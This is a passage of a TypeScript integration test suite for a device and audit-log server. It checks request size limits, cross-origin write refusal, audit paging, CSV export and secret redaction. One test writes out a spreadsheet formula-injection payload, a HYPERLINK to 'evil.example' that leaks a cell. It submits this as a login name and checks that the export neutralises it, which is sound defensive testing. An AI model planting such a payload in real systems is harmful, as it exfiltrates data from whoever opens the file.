      (await fetch(new URL('/api/devices', sfu.url), { method: 'POST', headers: { authorization: `Bearer ${admin()}`, 'content-type': contentType }, body })).status;
    expect(await raw(JSON.stringify({ id: 'form-dev', orgUnitId: provinceId, kind: 'vehicle', name: 'x' }), 'application/x-www-form-urlencoded')).toBe(400);
    expect(await raw('{"id": ', 'application/json')).toBe(400);
    expect(await sfu.store.devices.get('form-dev')).toBeNull();

    // Over 64 KB: with a declared length, and streamed in chunks without one.
    const big = JSON.stringify({ id: 'big-dev', orgUnitId: provinceId, kind: 'vehicle', name: 'x', model: 'y'.repeat(70 * 1024) });
    const declared = await api('POST', '/api/devices', admin(), JSON.parse(big));
    expect(declared.status).toBe(400);
    expect(declared.body.error.message).toMatch(/larger than 65536 bytes/);
    // Streamed: the answer is a 400 and the connection stays usable (a reset would lose the answer
    // for a client still sending, and kill the keep-alive connection under the next request).
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    try {
      const send = (method: string, pathname: string, body?: string) =>
        new Promise<{ status: number; body: string; reused: boolean }>((resolve, reject) => {
          const req = http.request(new URL(pathname, sfu.url), { method, agent, headers: { authorization: `Bearer ${admin()}`, 'content-type': 'application/json' } }, (res) => {
            let text = '';
            res.setEncoding('utf8');
            res.on('data', (chunk: string) => (text += chunk));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, reused: req.reusedSocket }));
          });
          req.on('error', reject);
          if (body === undefined) {
            req.end();
            return;
          }
          let offset = 0;
          const more = () => {
            while (offset < body.length) {
              const chunk = body.slice(offset, offset + 8192);
              offset += chunk.length;
              if (!req.write(chunk)) return void req.once('drain', more);
            }
            req.end();
          };
          more();
        });
      const chunked = await send('POST', '/api/devices', big.repeat(16).replace(/^\{/, '{"x":1,'));
      expect(chunked.status).toBe(400);
      expect(JSON.parse(chunked.body).error.message).toMatch(/larger than 65536 bytes/);
      const next = await send('GET', '/api/auth/me');
      expect(next).toMatchObject({ status: 200, reused: true });
    } finally {
      agent.destroy();
    }
    expect(await sfu.store.devices.get('big-dev')).toBeNull();

    expect((await api('GET', '/api/nothing-here', admin())).status).toBe(404);
    expect((await api('GET', '/api/devices/api-dev-1/extra', admin())).status).toBe(404);
    const wrongMethod = await api('PUT', '/api/devices', admin(), {});
    expect(wrongMethod.status).toBe(405);
    expect((await api('DELETE', '/api/devices', admin())).status).toBe(405);
    expect((await api('GET', '/api/users/whoever', admin())).status).toBe(405);

    // Writes from a foreign page are refused before anything else; the wall's own origin is fine.
    const origin = new URL(sfu.url).origin;
    const foreign = await api('POST', '/api/devices', admin(), { id: 'evil-dev', orgUnitId: provinceId, kind: 'vehicle', name: 'x' }, { origin: 'http://evil.example' });
    expect(foreign.status).toBe(403);
    expect(await sfu.store.devices.get('evil-dev')).toBeNull();
    expect((await api('DELETE', '/api/devices/api-dev-1', admin(), undefined, { origin: 'http://evil.example' })).status).toBe(403);
    expect(await sfu.store.devices.get('api-dev-1')).not.toBeNull();
    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: 'admin', password: SEED_PASSWORD }, headers: { origin: 'http://evil.example' } })).status).toBe(403);
    expect((await api('GET', '/api/devices', admin(), undefined, { origin: 'http://evil.example' })).status).toBe(200);
    const own = await api('POST', '/api/devices', admin(), { id: 'own-origin-dev', orgUnitId: provinceId, kind: 'vehicle', name: '本站车辆' }, { origin });
    expect(own.status).toBe(201);
    expect((await api('DELETE', '/api/devices/own-origin-dev', admin(), undefined, { origin })).status).toBe(204);
  });

  it('shows the auditor every admin change, newest first, in pages, and audits reads of persons', async () => {
    const page = (await api('GET', '/api/audit?limit=1000', auditor())).body as AuditPage;
    const entries = page.entries;
    expect(entries.length).toBeGreaterThan(50);
    for (let i = 1; i < entries.length; i++) {
      expect(entries[i]!.id).toBeLessThan(entries[i - 1]!.id);
      expect(entries[i]!.at).toBeLessThanOrEqual(entries[i - 1]!.at);
    }
    const find = (action: string, targetType: string, targetId: string | undefined) => entries.filter((e) => e.action === action && e.targetType === targetType && e.targetId === targetId);
    const adminUser = (await sfu.store.users.findForLogin('admin'))!.user;
    const countyAdminUser = (await sfu.store.users.findForLogin('county-admin'))!.user;
    const byAdmin = { userId: adminUser.id, username: 'admin', outcome: 'ok' };

    expect(find('admin.create', 'org-unit', made.orgUnitId)).toEqual([expect.objectContaining({ ...byAdmin, orgUnitId: made.orgUnitId, address: expect.stringMatching(/127\.0\.0\.1/) })]);
    expect(find('admin.update', 'org-unit', made.orgUnitId)[0]!.detail).toEqual({ name: { from: '测试镇司法所', to: '新测试镇司法所' } });
    expect(find('admin.create', 'centre', 'centre-test')).toHaveLength(1);
    expect(find('admin.delete', 'centre', 'centre-test')).toEqual([expect.objectContaining(byAdmin)]);
    expect(find('admin.create', 'device', made.deviceId)).toEqual([expect.objectContaining({ ...byAdmin, orgUnitId: county2Id })]);
    expect(find('admin.delete', 'device', 'api-dev-2')[0]!.detail).toMatchObject({ channels: ['api-cam-4'] });
    expect(find('admin.create', 'device', made.countyDeviceId)).toEqual([expect.objectContaining({ userId: countyAdminUser.id, username: 'county-admin', orgUnitId: `${county1Id}001` })]);
    expect(find('admin.create', 'channel', made.channelId)).toEqual([expect.objectContaining({ ...byAdmin, detail: expect.objectContaining({ source: expect.objectContaining({ hasPassword: true }) }) })]);
    expect(find('admin.update', 'channel', made.channelId)).toHaveLength(5);
    expect(find('admin.delete', 'channel', 'api-cam-3')).toEqual([expect.objectContaining(byAdmin)]);
    const userRows = entries.filter((e) => e.targetType === 'user' && e.targetId === made.userId && e.action.startsWith('admin.')).reverse();
    expect(userRows.map((e) => e.action)).toEqual(['admin.create', 'admin.update', 'admin.update', 'admin.update']);
    expect(userRows[1]!.detail).toMatchObject({ passwordChanged: true, displayName: '接口用户二' });
    expect(JSON.stringify(userRows)).not.toMatch(/password-1|password-2|argon2/);
    expect(entries.filter((e) => e.action === 'admin.delete' && e.targetType === 'user')).toHaveLength(1);
    expect(find('admin.create', 'person', 'api-person-1')).toEqual([expect.objectContaining({ username: 'supervisor1', orgUnitId: county1Id, detail: {} })]);
    // Logins, good and bad, are there too.
    expect(entries.some((e) => e.action === 'auth.login' && e.username === 'api-user')).toBe(true);
    expect(entries.some((e) => e.action === 'auth.login-failed' && e.username === 'api-user' && e.outcome === 'failed')).toBe(true);
    // The RTSP password never reached the audit log.
    expect(JSON.stringify(entries)).not.toContain(RTSP_SECRET);

    // Refused writes left no admin rows.
    expect(entries.some((e) => ['evil-dev', 'op-dev', 'big-dev', 'county-dev-x', 'form-dev'].includes(e.targetId ?? ''))).toBe(false);

    // Paging back: three at a time, continuing exactly where the last page stopped.
    const first = (await api('GET', '/api/audit?limit=3', auditor())).body as AuditPage;
    expect(first.entries).toHaveLength(3);
    expect(first.nextBefore).toBe(first.entries[2]!.id);
    const second = (await api('GET', `/api/audit?limit=3&before=${first.nextBefore}`, auditor())).body as AuditPage;
    expect(second.entries.map((e) => e.id)).toEqual(entries.filter((e) => e.id < first.nextBefore!).slice(0, 3).map((e) => e.id));
    // Filters over HTTP.
    const deletes = (await api('GET', '/api/audit?action=admin.delete&targetType=channel', auditor())).body as AuditPage;
    expect(deletes.entries.map((e) => e.targetId)).toEqual(['api-cam-3']);
    const mine = (await api('GET', `/api/audit?userId=${countyAdminUser.id}&action=admin.create`, auditor())).body as AuditPage;
    expect(mine.entries.map((e) => e.targetId)).toEqual(['county-dev-1']);
    const window = (await api('GET', `/api/audit?from=${entries[4]!.at}&to=${entries[0]!.at}`, auditor())).body as AuditPage;
    expect(window.entries.map((e) => e.id)).toEqual(expect.arrayContaining(entries.slice(0, 5).map((e) => e.id)));

    // Reading persons is itself audited.
    const supervisor = tokens[SEED_USERS.supervisor1]!;
    const reads = async () => ((await api('GET', '/api/audit?action=persons.read', auditor())).body as AuditPage).entries;
    const readsBefore = await reads();
    expect(readsBefore.length).toBeGreaterThanOrEqual(1); // the supervisor's list above
    const persons = await api('GET', '/api/persons', supervisor);
    const readsAfter = await reads();
    expect(readsAfter).toHaveLength(readsBefore.length + 1);
    expect(readsAfter[0]).toMatchObject({ username: 'supervisor1', targetType: 'person', orgUnitId: county1Id, detail: { count: persons.body.persons.length } });
    expect((readsAfter[0]!.detail.ids as string[]).sort()).toEqual((persons.body.persons as SupervisedPerson[]).map((p) => p.id).sort());
  });

  it('exports the audit log as CSV with a BOM, one row per entry, and audits the export', async () => {
    const filter = 'targetType=channel';
    const json = ((await api('GET', `/api/audit?${filter}&limit=1000`, auditor())).body as AuditPage).entries;
    expect(json.length).toBeGreaterThanOrEqual(10);
    const response = await fetch(new URL(`/api/audit.csv?${filter}`, sfu.url), { headers: { authorization: `Bearer ${auditor()}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="argus-audit-\d{14}\.csv"$/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text).not.toContain(RTSP_SECRET);
    const records = parseCsv(text);
    expect(records[0]).toEqual(['id', 'time_utc+8', 'at_ms', 'user_id', 'username', 'action', 'outcome', 'target_type', 'target_id', 'org_unit_id', 'address', 'detail']);
    const rows = records.slice(1);
    expect(rows).toHaveLength(json.length);
    rows.forEach((row, i) => {
      const entry = json[i]!;
      expect(row).toHaveLength(12);
      expect(row[0]).toBe(String(entry.id));
      expect(row[2]).toBe(String(entry.at));
      expect(row[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(row.slice(3, 11)).toEqual([entry.userId ?? '', entry.username ?? '', entry.action, entry.outcome, entry.targetType ?? '', entry.targetId ?? '', entry.orgUnitId ?? '', entry.address ?? '']);
      expect(JSON.parse(row[11]!)).toEqual(entry.detail);
    });
    // Chinese text survives the round trip.
    expect(rows.some((row) => row[11]!.includes('接待室'))).toBe(true);

    const exports = ((await api('GET', '/api/audit?action=audit.export', auditor())).body as AuditPage).entries;
    expect(exports).toHaveLength(1);
    expect(exports[0]).toMatchObject({ username: 'auditor', targetType: 'audit', outcome: 'ok', detail: { rows: json.length, filter: { targetType: 'channel' } } });
    expect(exports[0]!.id).toBeGreaterThan(json[0]!.id);
    // The export row is not in the export it describes, but is in the next one.
    expect(rows.some((row) => row[5] === 'audit.export')).toBe(false);
    const again = parseCsv((await api('GET', '/api/audit.csv?action=audit.export', auditor())).body as string);
    expect(again.slice(1).map((row) => row[0])).toEqual([String(exports[0]!.id)]);
  });

  it('exports what anyone typed at the login page as text, never as a spreadsheet formula', async () => {
    const typed = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: typed, password: 'whatever-123' } })).status).toBe(401);
    const failed = ((await api('GET', '/api/audit?action=auth.login-failed&limit=1', auditor())).body as AuditPage).entries[0]!;
    expect(failed).toMatchObject({ username: typed, userId: null, outcome: 'failed', detail: { reason: 'unknown-user' } }); // stored as typed
    const csv = parseCsv((await api('GET', `/api/audit.csv?action=auth.login-failed&before=${failed.id + 1}`, auditor())).body as string);
    const row = csv.find((r) => r[0] === String(failed.id))!;
    expect(row[4]).toBe(`'${typed}`);
    expect(csv.slice(1).every((r) => r.slice(3, 11).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it('kept secrets out of the logs and camera summaries, and answered no request with an internal error', async () => {
    expect(JSON.stringify(sfu.cameras.list())).not.toContain(RTSP_SECRET);
    expect(JSON.stringify(logLines)).not.toContain(RTSP_SECRET);
    expect(JSON.stringify(logLines)).not.toMatch(/first-password-1|second-password-2/);
    expect(logLines.filter((l) => l.level === 'error')).toEqual([]);
  });
});
